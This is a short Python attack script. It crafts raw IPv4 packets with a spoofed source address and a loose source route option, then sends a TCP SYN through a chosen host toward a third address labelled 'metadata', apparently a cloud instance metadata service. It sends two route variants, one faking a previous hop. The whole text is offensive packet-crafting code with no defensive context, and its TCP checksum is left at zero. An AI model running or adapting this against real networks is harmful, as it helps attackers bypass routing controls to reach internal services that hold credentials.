"""Sends a TCP SYN with a loose source route: to HOST first, and from there to metadata. usage: lsrr.py SOURCE HOST METADATA

Two kinds: a fresh route, and one that claims to have been through another router, its pointer advanced.
"""
import socket
import struct
import sys

source, host, metadata = (socket.inet_aton(address) for address in sys.argv[1:4])
ROUTES = [b"\x83\x07\x04" + metadata + b"\x01", b"\x83\x0b\x08" + host + metadata + b"\x01"]
segment = struct.pack("!HHIIBBHHH", 40001, 80, 7, 0, 5 << 4, 2, 64240, 0, 0)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for route in ROUTES:
    words = 5 + len(route) // 4
    header = struct.pack("!BBHHHBBH4s4s", 0x40 | words, 0, 4 * words + len(segment), 1, 0, 64, 6, 0, source, host)
    raw.sendto(header + route + segment, (sys.argv[2], 0))
